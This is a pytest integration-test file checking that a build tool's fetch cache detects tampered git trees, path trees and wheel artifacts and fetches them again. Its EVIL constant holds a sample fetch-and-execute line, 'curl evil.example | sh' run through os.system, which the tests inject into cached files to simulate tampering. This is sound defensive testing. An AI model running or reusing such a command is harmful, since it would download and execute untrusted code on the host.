"""The fetch cache is verified before use: a tree or artifact changed after it was written is
reported with its path, thrown away and fetched again (never built into an image)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from gwb_factories import GitRepo, LocalIndex, write_policy

from gateway_builder import defaults
from gateway_builder.cli import main
from gateway_builder.lock.file import read_lock

pytestmark = pytest.mark.integration

EVIL = "import os\nos.system('curl evil.example | sh')\n"


def run(manifest: Path, cache: Path, *args: str) -> int:
    return main(
        [args[0], "--python-build-file", str(manifest), "--cache-dir", str(cache), *args[1:]]
    )


def cached_trees(cache: Path, kind: str) -> list[Path]:
    return sorted(p for p in (cache / "trees" / kind).iterdir() if not p.name.startswith("."))


@pytest.fixture
def index_env(local_index: LocalIndex, monkeypatch: pytest.MonkeyPatch) -> LocalIndex:
    monkeypatch.setenv(defaults.INDEX_URL_ENV, local_index.http_url)
    return local_index


def test_an_edited_git_tree_in_the_cache_is_fetched_again(
    tmp_path: Path,
    git_repo_factory: Callable[[str], GitRepo],
    index_env: LocalIndex,
    capsys: pytest.CaptureFixture[str],
) -> None:
    repo = git_repo_factory("remote")
    write_policy(repo.path / "pol", "gitpol")
    repo.commit("v1.0.0")
    repo.tag("v1.0.0")
    manifest = tmp_path / "python-build.yaml"
    manifest.write_text(
        f"version: v1\npolicies:\n  - name: gitpol\n    source:\n      git:\n        url: "
        f"{repo.url}\n        ref: v1.0.0\n        subdirectory: pol\n"
    )
    cache = tmp_path / "cache"
    assert run(manifest, cache, "lock") == 0
    (tree,) = cached_trees(cache, "git")
    original = (tree / "policy.py").read_text()
    (tree / "policy.py").write_text(original + EVIL)
    capsys.readouterr()
    assert run(manifest, cache, "fetch") == 0
    err = capsys.readouterr().err
    assert f"warning: the fetch cache entry {tree} was changed after it was written" in err
    assert "fetching it again" in err
    assert (tree / "policy.py").read_text() == original
    assert run(manifest, cache, "lock", "--check") == 0
    assert "warning" not in capsys.readouterr().err  # the refetched tree is trusted again


def test_an_edited_path_tree_in_the_cache_is_said_to_be_the_cache_and_recovers(
    tmp_path: Path, index_env: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    write_policy(tmp_path / "pol", "pathpol")
    manifest = tmp_path / "python-build.yaml"
    manifest.write_text("version: v1\npolicies:\n  - name: pathpol\n    source:\n      path: pol\n")
    cache = tmp_path / "cache"
    assert run(manifest, cache, "lock") == 0
    (tree,) = cached_trees(cache, "path")
    (tree / "policy.py").write_text(EVIL)
    capsys.readouterr()
    for _ in range(2):  # recovered for good, not once
        assert run(manifest, cache, "lock", "--check") == 0
        err = capsys.readouterr().err
        assert "changed while it was being fetched" not in err
    assert (tree / "policy.py").read_text() == (tmp_path / "pol" / "policy.py").read_text()


def test_an_edited_artifact_in_the_cache_is_fetched_again(
    tmp_path: Path, index_env: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = tmp_path / "python-build.yaml"
    manifest.write_text(
        "version: v1\npolicies:\n  - name: index-policy\n    source:\n      pip:\n"
        f'        package: gwbtest-index-policy\n        version: "==1.0.0"\n'
        f"        index_url: {index_env.http_url}\n"
    )
    cache = tmp_path / "cache"
    assert run(manifest, cache, "lock") == 0
    entry = read_lock(tmp_path / "python-build.lock").policy("index-policy")
    assert entry is not None and entry.artifact_sha256
    sha = entry.artifact_sha256
    (wheel,) = (cache / "artifacts" / "sha256" / sha[:2] / sha).iterdir()
    wheel.write_bytes(wheel.read_bytes() + b"tampered")
    capsys.readouterr()
    assert run(manifest, cache, "fetch") == 0
    err = capsys.readouterr().err
    assert f"warning: the fetch cache entry {wheel.parent} was changed after it was written" in err
    (again,) = (cache / "artifacts" / "sha256" / sha[:2] / sha).iterdir()
    import hashlib

    assert hashlib.sha256(again.read_bytes()).hexdigest() == sha
